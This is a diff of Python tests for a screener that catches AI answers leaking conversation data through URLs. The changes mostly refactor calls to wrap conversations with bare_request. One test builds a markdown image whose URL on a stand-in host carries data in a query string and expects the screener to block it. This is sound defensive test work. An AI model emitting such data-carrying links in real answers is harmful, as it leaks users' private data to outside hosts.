@@ -12,7 +12,9 @@ from domain.answers.addresses import find_addresses
 from domain.answers.exfiltration import Conversation, carries_data, host_of, is_active, normalised
 from domain.answers.markup import without_code
 from domain.answers.screen import screen_output
-from domain.inference.requests import Message, Speaker
+from domain.inference.content import Message, Speaker
+from domain.inference.requests import bare_request
+from domain.inference.texts import texts_of
 from domain.policy.document import Policy
 from domain.screening.verdicts import Decision
 
@@ -113,14 +115,14 @@ HARMLESS = [
     ],
 )
 def test_addresses_that_carry_data_are_found(policy: Policy, answer: str, rule: str, decision: Decision):
-    verdict = screen_output(f"Of course.\n\n{answer}\n\nAnything else?", CONVERSATION, policy.output)
+    verdict = screen_output(f"Of course.\n\n{answer}\n\nAnything else?", bare_request(*CONVERSATION), policy.output)
     assert rule in verdict.rules
     assert verdict.decision is decision
 
 
 @pytest.mark.parametrize("answer", HARMLESS)
 def test_other_addresses_pass(policy: Policy, answer: str):
-    verdict = screen_output(answer, CONVERSATION, policy.output)
+    verdict = screen_output(answer, bare_request(*CONVERSATION), policy.output)
     assert verdict.rules == ()
     assert verdict.decision is Decision.ALLOW
 
@@ -129,12 +131,13 @@ def test_what_the_conversation_named_is_nothing_new(policy: Policy):
     url = f"https://storage.example/report.png?sig={DATA}"
     named = (*CONVERSATION, Message(Speaker.USER, f"Show {url} to me"))
     answer = f"![report]({url})"
-    assert screen_output(answer, CONVERSATION, policy.output).decision is Decision.BLOCK
-    assert screen_output(answer, named, policy.output).decision is Decision.ALLOW
+    assert screen_output(answer, bare_request(*CONVERSATION), policy.output).decision is Decision.BLOCK
+    assert screen_output(answer, bare_request(*named), policy.output).decision is Decision.ALLOW
 
 
 def test_words_that_name_a_picture_are_no_data():
-    conversation = Conversation([Message(Speaker.USER, "Show me a picture of the golden gate bridge")])
+    asked = bare_request(Message(Speaker.USER, "Show me a picture of the golden gate bridge"))
+    conversation = Conversation(texts_of(asked))
     assert not carries_data("https://a.example/golden-gate-bridge.jpg", conversation, loaded=True)
 
 
@@ -157,7 +160,7 @@ def test_hosts(url: str, host: str | None):
 @given(st.text(max_size=300))
 def test_no_text_breaks_it(text: str):
     assert len(without_code(text)) == len(text)
-    conversation = Conversation(CONVERSATION)
+    conversation = Conversation(texts_of(bare_request(*CONVERSATION)))
     for address in find_addresses(without_code(text)):
         assert 0 <= address.start <= address.end <= len(text)
         url = normalised(address.url)
